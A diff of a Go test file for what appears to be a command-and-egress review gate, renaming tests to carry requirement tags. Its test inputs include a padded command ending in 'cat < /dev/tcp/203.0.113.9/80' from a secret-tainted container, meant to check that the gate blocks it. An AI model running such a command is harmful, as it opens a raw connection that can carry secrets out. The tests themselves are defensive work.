@@ -63,7 +63,7 @@ func approvedRun(r *rig) {
 
 // G26: what was let run over the bridge is not asked about again when it runs and
 // goes where it said, once.
-func TestRecognised(t *testing.T) {
+func TestRecognisedG26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		approvedRun(r)
 		r.Configure(opinion(true), true, 0, 0) // another review would flag it
@@ -81,7 +81,7 @@ func TestRecognised(t *testing.T) {
 }
 
 // G26, G16: what is not that command has no part in it.
-func TestNotRecognised(t *testing.T) {
+func TestNotRecognisedG16G26(t *testing.T) {
 	tests := []struct {
 		name   string
 		change func(*Request)
@@ -134,7 +134,7 @@ func TestNotRecognised(t *testing.T) {
 }
 
 // G26: a process and all its ancestors are compared within the steps of one comparison.
-func TestB11CoversBounded(t *testing.T) {
+func TestB11CoversBoundedG26(t *testing.T) {
 	f, ok := parseForm(strings.Repeat("curl x$a\n", 4000))
 	if !ok {
 		t.Fatal("the text cannot be parsed")
@@ -157,7 +157,7 @@ func TestB11CoversBounded(t *testing.T) {
 
 // G15, G26: a person's approval of a command is durable, is used by the command's
 // execution, and lets that out where it said.
-func TestApprovedCommand(t *testing.T) {
+func TestApprovedCommandG15G26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		c := r.ask(curl(both, asking(wanted)))
 		c.blocks()
@@ -188,7 +188,7 @@ func TestApprovedCommand(t *testing.T) {
 }
 
 // G15: who asked gave up; the approval comes later, and the next who asks the same has it.
-func TestLateCommand(t *testing.T) {
+func TestLateCommandG15(t *testing.T) {
 	bubble(t, func(r *rig) {
 		c := r.ask(curl(both, asking(wanted)))
 		id := r.one()
@@ -201,7 +201,7 @@ func TestLateCommand(t *testing.T) {
 }
 
 // G26: without a resolver of the host, a name is no destination.
-func TestNoResolver(t *testing.T) {
+func TestNoResolverG26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		approvedRun(r)
 		r.Gate.resolve = nil
@@ -211,7 +211,7 @@ func TestNoResolver(t *testing.T) {
 }
 
 // G25, review: exec: who was held before it began and let go on may then go where its words say, with all its tree.
-func TestReviewedAtExec(t *testing.T) {
+func TestReviewedAtExecG25(t *testing.T) {
 	bubble(t, func(r *rig) {
 		r.Gate.resolve = func(context.Context, string) ([]netip.Addr, error) {
 			return []netip.Addr{netip.MustParseAddr("203.0.113.9")}, nil
@@ -247,7 +247,7 @@ func TestReviewedAtExec(t *testing.T) {
 }
 
 // G25, G26: a program that calls itself otherwise is judged by its file, before it begins and when it connects.
-func TestReviewedByFile(t *testing.T) {
+func TestReviewedByFileG25G26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		r.Configure(cop.Static{}, true, 0, 0)
 		disguised := func(r *Request) {
@@ -264,7 +264,7 @@ func TestReviewedByFile(t *testing.T) {
 
 // G26: only what a reviewer was shown is a destination: a host that did not fit into the facts of a command is none, and no
 // reviewer passes such a command.
-func TestFactsThatDoNotFit(t *testing.T) {
+func TestFactsThatDoNotFitG26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		secret := func(r *Request) { r.Container.Taint = []string{"secret"} }
 		r.Configure(cop.Static{}, false, 0, 0)
@@ -292,7 +292,7 @@ func TestFactsThatDoNotFit(t *testing.T) {
 }
 
 // G26: a command that names only this machine asks no name server outside.
-func TestLocalNameAsksNobody(t *testing.T) {
+func TestLocalNameAsksNobodyG26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		const text = "./tool http://localhost/ http://host.docker.internal/"
 		r.Configure(cop.Static{}, false, 0, 0)
@@ -307,7 +307,7 @@ func TestLocalNameAsksNobody(t *testing.T) {
 }
 
 // G9, G26: a reviewer judges all of a command, however little of it a question keeps; what passed is then recognised.
-func TestReviewedWhole(t *testing.T) {
+func TestReviewedWholeG9G26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		secret := func(r *Request) { r.Container.Taint = []string{"secret"} }
 		text := "make # " + strings.Repeat("a", 40<<10) + "\ncat < /dev/tcp/203.0.113.9/80"
@@ -346,7 +346,7 @@ func TestReviewedWhole(t *testing.T) {
 }
 
 // G25, review: exec: a process that was let begin and then executes another command is judged again; its next steps go by that.
-func TestExecutesAnother(t *testing.T) {
+func TestExecutesAnotherG25(t *testing.T) {
 	program := func(path string, argv ...string) func(*Request) {
 		return func(r *Request) {
 			r.Process.Exe, r.Process.Argv = &event.File{Path: path, Device: 8, Inode: 50}, argv
@@ -373,7 +373,7 @@ func TestExecutesAnother(t *testing.T) {
 }
 
 // G1, G26: what was said under less taint counts for nothing once there is more.
-func TestMoreTaintVoids(t *testing.T) {
+func TestMoreTaintVoidsG1G26(t *testing.T) {
 	bubble(t, func(r *rig) {
 		approvedRun(r) // with one bit
 		r.ask(curl(below)).gives(Allow, Recognised)
